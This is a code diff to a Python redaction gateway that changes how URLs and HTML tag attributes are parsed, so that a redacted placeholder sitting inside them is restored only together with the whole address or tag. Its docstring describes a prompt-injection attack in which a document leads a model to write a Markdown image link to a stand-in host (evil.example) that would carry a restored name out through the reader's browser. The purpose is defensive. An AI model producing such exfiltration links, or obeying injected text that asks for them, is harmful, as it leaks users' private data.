@@ -3,7 +3,8 @@
 An injected document can make a model write ``![](https://evil.example/?q=[PERSON1])``; if the gateway put the name
 in, the reader's browser would carry it out of the house. So restoration asks `Place.is_unsafe`, and redaction asks
 `areas`: whatever is found inside such a place travels as *one* value with the whole address or tag, which stands
-alone again when it comes back. Both sides use the same rules on this page, or the round trip would break.
+alone again when it comes back. Both sides use the same rules on this page, or the round trip would break. Attributes
+that nobody follows (`gateway.redaction.elements`) are like text.
 
 The rules are those of the readers, not of good style: in Markdown an address ends at white space (ASCII only) and may
 hold quotes and brackets; between ``<`` and ``>`` it may hold spaces; its colon and slashes may be escaped or written
@@ -22,6 +23,7 @@ from typing import NamedTuple
 
 import regex
 
+from gateway.redaction.elements import followed
 from gateway.redaction.nesting import PIECE, Nesting, unescaped
 
 _SPACE = re.compile(r"[\x00-\x20\x7f]")
@@ -111,7 +113,7 @@ def _tags(text: str) -> Iterator[Area]:
             if (within := _tag(text, nested.start())) is not None:
                 yield within
         else:
-            yield Area(area.start, area.inside, len(text), True)
+            yield Area(area.start, area.inside if area.inside <= area.end else area.start, len(text), True)
 
 
 def _tag(text: str, start: int) -> Area | None:
@@ -120,12 +122,22 @@ def _tag(text: str, start: int) -> Area | None:
     if match is None:
         return None
     end = match.end()
-    inside = text.find("<" if bracketed else "=", start, end)
-    if inside < 0:  # no attribute yet: only an open one matters, when it goes on
+    inside = text.find("<", start, end) + 1 if bracketed else _followed(text, start, end)
+    if inside < 0:  # no such attribute yet: only an open tag matters, when it goes on
         return Area(start, len(text) + 1, end, end == len(text))
     if text.startswith("\n\n", end):
         end += 1  # nobody who sees only the first of the two line feeds knows that the tag has ended
-    return Area(start, inside + 1, end, match.end() == len(text))
+    return Area(start, inside, end, match.end() == len(text))
+
+
+def _followed(text: str, start: int, end: int) -> int:
+    """Return where in a tag begins what may not be put back alone, or -1. A tag that is too long to be kept in sight
+    is taken for one of HTML, so that it does not matter how much of it is seen."""
+    first = text.find("=", start, end)
+    if first < 0 or end - start > _LIMIT or first - start > _NAMES:
+        return first + 1 or -1
+    inside = followed(text[start:end])
+    return inside if inside < 0 else start + inside
 
 
 class Place:
